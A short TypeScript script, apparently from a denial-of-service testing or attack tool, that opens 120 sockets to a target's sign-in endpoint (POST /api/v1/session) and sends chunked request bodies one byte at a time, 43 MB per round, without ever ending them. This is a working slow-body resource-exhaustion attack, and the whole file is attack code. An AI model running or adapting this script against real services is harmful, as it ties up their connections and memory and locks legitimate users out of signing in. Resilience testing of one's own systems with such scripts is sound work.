/** 120 sockets of strangers that send the sign-in a body in chunks of one byte, 43 MB together in each round, and never end it. */
import { attack, head, oneByteChunks, readTarget } from './sockets.ts';

const target = readTarget();
const CHUNKED = ['Content-Type: application/json', 'Transfer-Encoding: chunked'];
const begin = Buffer.from(head(target, 'POST /api/v1/session', CHUNKED), 'latin1');
const body = oneByteChunks(43_000_000 / 120);

await attack(target, {
  sockets: 120,
  reads: true,
  begin: (_, write) => {
    write(begin);
    write(body);
  },
});
